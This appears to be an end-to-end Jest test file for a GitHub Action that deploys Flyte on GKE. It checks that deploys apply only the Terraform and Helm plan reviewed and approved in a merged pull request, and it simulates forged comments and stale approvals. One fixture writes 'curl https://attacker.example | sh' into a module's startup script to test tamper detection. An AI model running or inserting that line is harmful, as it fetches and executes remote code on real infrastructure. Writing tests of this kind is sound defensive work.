/**
 * Apply only what was reviewed, through the bundled action, the stand-ins and the loopback GitHub
 * server: the plan comment carries the plan's fingerprint; the deploy on the push after the merge
 * applies only when its own plan has the same one; a different plan, chart or values stops it
 * before any changing command and the comment says what differs; no reviewed plan stops it too;
 * `require-reviewed-plan: false` applies with a warning. The error names the manual deploy.
 * Needs a fresh `npm run build` after changes to src/.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import {
  jobInputs,
  runJob,
  PR_NUMBER,
  startGitHub,
  startToolMirror,
  withStateBucket
} from './support/e2e-jobs.js';
import { PULL_HEAD_SHA, type GitHubServer, type StoredReview } from './support/github-server.js';
import { Harness, type StepResult } from './support/harness.js';
import { isChangingCall } from './support/changing.js';
import { HEAD_SHA } from './support/events.js';
import type { Mirror } from './support/mirror.js';
import { readFingerprintMarker } from '../src/review/fingerprint.js';

const MARKER = '<!-- flyte-gke-action:acme-flyte-e2e/flyte-e2e -->';
const approval = (extra: Partial<StoredReview> = {}): StoredReview => ({
  login: 'bob',
  state: 'APPROVED',
  commitId: PULL_HEAD_SHA,
  ...extra
});
const MALLORY = { login: 'mallory', id: 9000003, type: 'User' } as const;
const changing = (result: StepResult) => result.calls.filter(isChangingCall);
const applies = (result: StepResult) =>
  result.calls.filter((c) => c.tool === 'terraform' && c.args[0] === 'apply');

describe('apply only the reviewed plan', () => {
  let github: GitHubServer;
  let mirror: Mirror;
  let pr: Harness;
  let push: Harness;
  let base: Record<string, string>;
  // Each case starts from nothing deployed, on both sides.
  beforeEach(async () => {
    [github, mirror] = await Promise.all([startGitHub(), startToolMirror()]);
    base = { ...jobInputs(mirror), 'require-reviewed-plan': 'true' };
    pr = await Harness.create({ event: 'pull_request', oidc: true, githubApiUrl: github.url });
    push = await Harness.create({ event: 'push', oidc: true, githubApiUrl: github.url });
    github.commitPulls.set(HEAD_SHA, [{ number: PR_NUMBER, merged: true }]);
    github.reviews.set(PR_NUMBER, [approval()]);
    withStateBucket(pr);
    // The state bucket exists (an earlier deploy made it); a first deploy creates the empty,
    // versioned bucket before it can plan, the one change that precedes the check.
    push.setWorld((w) => {
      w.gcloud = {
        buckets: {
          'acme-flyte-e2e-flyte-tfstate': {
            location: 'US-CENTRAL1',
            versioning: true,
            uniform: true
          }
        }
      };
    });
  });
  afterEach(async () => {
    await Promise.all([pr.close(), push.close(), github.stop(), mirror.close()]);
  });

  const comment = () => github.commentsOn(PR_NUMBER).find((c) => c.body.includes(MARKER))!;
  const plan = async (inputs: Record<string, string> = {}) => {
    const { main } = await runJob(pr, { ...base, ...inputs, command: 'plan' });
    expect(main.exitCode).toBe(0);
    return readFingerprintMarker(comment().body);
  };

  it('the plan comment carries the fingerprint, and a deploy with the same plan applies it', async () => {
    const reviewed = await plan();
    expect(reviewed?.hex).toMatch(/^[0-9a-f]{64}$/);
    expect(reviewed?.resources.length).toBeGreaterThan(3);
    expect(comment().body).toContain(`Plan fingerprint \`${reviewed!.hex.slice(0, 12)}\``);
    const { main } = await runJob(push, { ...base, command: 'deploy' });
    expect(main.errors).toEqual([]);
    expect(main.exitCode).toBe(0);
    expect(applies(main)).toHaveLength(1);
    expect(main.stdout).toContain(`matches the one reviewed in pull request #${PR_NUMBER}`);
    // The comment keeps the reviewed fingerprint after the deploy.
    expect(readFingerprintMarker(comment().body)?.hex).toBe(reviewed!.hex);
  });

  it('a different plan stops before any change and the comment says what differs', async () => {
    const reviewed = await plan();
    // Meanwhile another change was applied: the deploy's plan is no longer the reviewed one.
    push.setWorld((w) => {
      w.terraform = { ...w.terraform, applied: 'deployed-from-another-branch' };
    });
    const { main } = await runJob(push, { ...base, command: 'deploy' });
    expect(main.exitCode).toBe(1);
    expect(changing(main)).toEqual([]);
    expect(main.errors.join('\n')).toMatch(
      /differs from the one reviewed in pull request #42; nothing was applied/
    );
    expect(main.errors.join('\n')).toMatch(/not in the reviewed plan: update google_\w+\.\w+/);
    expect(main.errors.join('\n')).toMatch(
      /reviewed but no longer planned: create google_\w+\.\w+/
    );
    const body = comment().body;
    expect(body).toContain(
      'Not applied: the deploy planned something other than what was reviewed'
    );
    // The comment still carries the reviewed fingerprint, never the deploy's own.
    expect(readFingerprintMarker(body)?.hex).toBe(reviewed!.hex);
  });

  it('a different chart version stops before any change', async () => {
    await plan();
    const { main } = await runJob(push, { ...base, command: 'deploy', 'chart-version': 'v1.16.7' });
    expect(main.exitCode).toBe(1);
    expect(changing(main)).toEqual([]);
    expect(main.errors.join('\n')).toContain('chart version: reviewed v1.16.8, now v1.16.7');
    expect(comment().body).toContain('chart version: reviewed v1.16.8, now v1.16.7');
  });

  it('different values stop before any change', async () => {
    const file = pr.writeWorkspaceFile(
      'flyte/values-dev.yaml',
      'configuration:\n  logging:\n    level: 4\n'
    );
    push.writeWorkspaceFile(file, 'configuration:\n  logging:\n    level: 6\n');
    await plan({ 'extra-values-files': file });
    const { main } = await runJob(push, { ...base, command: 'deploy', 'extra-values-files': file });
    expect(main.exitCode).toBe(1);
    expect(changing(main)).toEqual([]);
    expect(main.errors.join('\n')).toMatch(/Helm values: reviewed [0-9a-f]{12}, now [0-9a-f]{12}/);
  });

  it('no reviewed plan (a direct push) stops before any change', async () => {
    github.commitPulls.set(HEAD_SHA, []);
    const { main } = await runJob(push, { ...base, command: 'deploy' });
    expect(main.exitCode).toBe(1);
    expect(changing(main)).toEqual([]);
    expect(main.errors.join('\n')).toMatch(
      /No reviewed plan: commit [0-9a-f]{7} belongs to no pull request/
    );
    // The error names the safe way on: the manual deploy, not an unreviewed apply.
    expect(main.errors.join('\n')).toContain(
      'deploy by hand: "Run workflow" on the deploy workflow'
    );
    expect(main.errors.join('\n')).not.toContain('require-reviewed-plan: false');
  });

  it('a pull request without a plan comment (a fork) stops before any change', async () => {
    const { main } = await runJob(push, { ...base, command: 'deploy' });
    expect(main.exitCode).toBe(1);
    expect(changing(main)).toEqual([]);
    expect(main.errors.join('\n')).toContain(`pull request #${PR_NUMBER} has no plan comment`);
  });

  it('require-reviewed-plan: false applies without a reviewed plan, and says so', async () => {
    github.commitPulls.set(HEAD_SHA, []);
    const { main } = await runJob(push, {
      ...base,
      command: 'deploy',
      'require-reviewed-plan': 'false'
    });
    expect(main.exitCode).toBe(0);
    expect(applies(main)).toHaveLength(1);
    expect(main.warnings.join('\n')).toContain('require-reviewed-plan is false');
    expect(main.summary).toContain('require-reviewed-plan is false');
  });

  describe('attacks on the review', () => {
    /** A refusal before any tool ran: no download, no terraform, no gcloud as the deployer. */
    const refusedBeforeTools = async (pattern: RegExp) => {
      const { main } = await runJob(push, { ...base, command: 'deploy' });
      expect(main.exitCode).toBe(1);
      expect(main.calls).toEqual([]);
      expect(main.errors.join('\n')).toMatch(pattern);
      return main;
    };

    it('a marker comment by another user, however well it matches, does not count', async () => {
      // The plan's own comment, re-authored: the forger copied a fingerprint that matches.
      await plan();
      const ours = comment();
      ours.user = MALLORY;
      ours.app = null;
      await refusedBeforeTools(
        /No reviewed plan: the plan comments on pull request #42 were written by mallory \(User\), not by github-actions\[bot\]/
      );
    });

    it('a forged marker comment posted first is passed over: the plan writes its own, the deploy uses it', async () => {
      const forged = github.addComment(PR_NUMBER, `${MARKER}\nlooks reviewed`, MALLORY);
      const planned = await runJob(pr, { ...base, command: 'plan' });
      expect(planned.main.exitCode).toBe(0);
      // Left alone, and the action's own comment written beside it.
      expect(forged.body).toBe(`${MARKER}\nlooks reviewed`);
      const own = github
        .commentsOn(PR_NUMBER)
        .filter((c) => c.body.includes(MARKER) && c.user.login === 'github-actions[bot]');
      expect(own).toHaveLength(1);
      expect(readFingerprintMarker(own[0]!.body)?.hex).toMatch(/^[0-9a-f]{64}$/);
      const { main } = await runJob(push, { ...base, command: 'deploy' });
      expect(main.errors).toEqual([]);
      expect(applies(main)).toHaveLength(1);
    });

    it('a second plan comment by the same bot (another workflow with GITHUB_TOKEN) is refused', async () => {
      await plan();
      github.addComment(PR_NUMBER, comment().body);
      await refusedBeforeTools(
        /pull request #42 has 2 plan comments for acme-flyte-e2e\/flyte-e2e/
      );
    });

    it('an open, unmerged pull request whose head is the pushed commit does not count', async () => {
      await plan();
      github.commitPulls.set(HEAD_SHA, [{ number: PR_NUMBER, merged: false }]);
      await refusedBeforeTools(
        /commit 4f1c2d3 is not the merge commit of a pull request merged into main \(#42 is not merged\)/
      );
    });

    it('a pull request merged as another commit, or into another branch, does not count', async () => {
      await plan();
      github.commitPulls.set(HEAD_SHA, [
        { number: PR_NUMBER, merged: true, mergeCommitSha: 'abcdef0'.padEnd(40, '0') }
      ]);
      await refusedBeforeTools(/#42 was merged as abcdef0, not as 4f1c2d3/);
      github.commitPulls.set(HEAD_SHA, [{ number: PR_NUMBER, merged: true, baseRef: 'release' }]);
      await refusedBeforeTools(/#42 was merged into release, not main/);
    });

    it('a merged pull request without an approval does not count', async () => {
      await plan();
      github.reviews.set(PR_NUMBER, [approval({ state: 'COMMENTED' })]);
      await refusedBeforeTools(
        /pull request #42 was merged unapproved: no approving review at its head commit 9e8d7c6/
      );
    });

    it('an approval given at an older head commit does not count', async () => {
      await plan();
      github.reviews.set(PR_NUMBER, [approval({ commitId: 'b'.repeat(40) })]);
      await refusedBeforeTools(
        /the approval of bob was given at an older commit than the head 9e8d7c6/
      );
    });

    it('a dismissed approval, or changes requested after it, does not count', async () => {
      await plan();
      github.reviews.set(PR_NUMBER, [approval(), approval({ state: 'DISMISSED' })]);
      await refusedBeforeTools(/merged unapproved: no approving review at its head/);
      github.reviews.set(PR_NUMBER, [
        approval(),
        approval({ login: 'carol', state: 'CHANGES_REQUESTED' })
      ]);
      await refusedBeforeTools(/merged unapproved: changes were requested by carol/);
    });

    it('a changed module file after the review stops before any change', async () => {
      const reviewed = await plan();
      // Same resources planned, different code: a file the module reads was swapped after review.
      push.writeWorkspaceFile('flyte-terraform/startup.sh', 'curl https://attacker.example | sh\n');
      const { main } = await runJob(push, { ...base, command: 'deploy' });
      expect(main.exitCode).toBe(1);
      expect(changing(main)).toEqual([]);
      expect(main.errors.join('\n')).toMatch(/Terraform module files: reviewed [0-9a-f]{12}, now/);
      expect(readFingerprintMarker(comment().body)?.hex).toBe(reviewed!.hex);
    });
  });
});
